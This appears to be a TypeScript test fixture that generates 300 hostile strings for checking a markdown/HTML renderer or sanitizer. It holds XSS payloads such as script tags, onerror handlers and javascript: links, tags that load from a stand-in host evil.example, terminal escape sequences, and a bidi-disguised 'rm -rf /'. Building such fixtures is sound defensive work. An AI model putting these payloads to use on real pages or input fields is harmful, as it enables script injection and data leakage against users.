/** Three hundred texts that would do something if anything but text were made of them. */

const EVIL = "https://evil.example"
const ACT = "window.pwned=1"

const PAYLOADS = [
  `<script>${ACT}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<img src=x onerror="${ACT}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<svg onload="${ACT}"></svg>`,
  `<svg><script>${ACT}</script></svg>`,
  `<iframe src="javascript:${ACT}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ACT}</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`,
  `<style>@import "${EVIL}/x.css"; body{background:url(${EVIL}/bg)}</style>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<form action="${EVIL}"><button autofocus>go</button></form>`,
  `<a href="javascript:${ACT}">click</a>`,
  `<details open ontoggle="${ACT}">x</details>`,
  `<video src="${EVIL}/v" onerror="${ACT}"></video>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${ACT}></style></mglyph></math>`,
  `<div style="background:url('${EVIL}/d')">x</div>`,
  `<body onload="${ACT}">`,
  `"><img src=x onerror=${ACT}>`,
  `'-${ACT}-'`,
  "{{constructor.constructor('window.pwned=1')()}}",
  `[click](javascript:${ACT})`,
  `[click](data:text/html,<script>${ACT}</script>)`,
  `[click](vbscript:${ACT})`,
  `[click](java\nscript:${ACT})`,
  `![pixel](${EVIL}/p.png)`,
  `![](${EVIL}/q.png "onerror=${ACT}")`,
  `<${EVIL}/auto>`,
  `[ref]: javascript:${ACT}\n[click][ref]`,
  "&lt;script&gt;window.pwned=1&lt;/script&gt;",
  `\u001b]8;;javascript:${ACT}\u0007link\u001b]8;;\u0007`,
  `\u001b]0;${ACT}\u0007\u001b[2J\u001b[31mred`,
  "\u202etxt.exe\u2066 rm -rf / \u2069",
  "a\u0000b\u0008c\u007f\ufeff",
  `$$\\href{javascript:${ACT}}{x}$$`,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${ACT}>"] --> B\nclick A "${EVIL}"\n\`\`\``,
  `\`\`\`html\n<script>${ACT}</script>\n`,
]

const WRAPS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `# ${text}`,
  (text) => `> ${text}\n\n* ${text}`,
  (text) => `| a | b |\n|---|---|\n| ${text.replaceAll("\n", " ")} | x |`,
  (text) => `**${text}** and \`${text}\``,
  (text) => `<div>\n\n${text}\n\n</div>`,
  (text) => `<!-- --!> ${text} <!--`,
  (text) => `[${text}](${EVIL} "${text}")`,
]

export const HOSTILE: readonly string[] = WRAPS.flatMap((wrap) => PAYLOADS.map(wrap)).slice(0, 300)
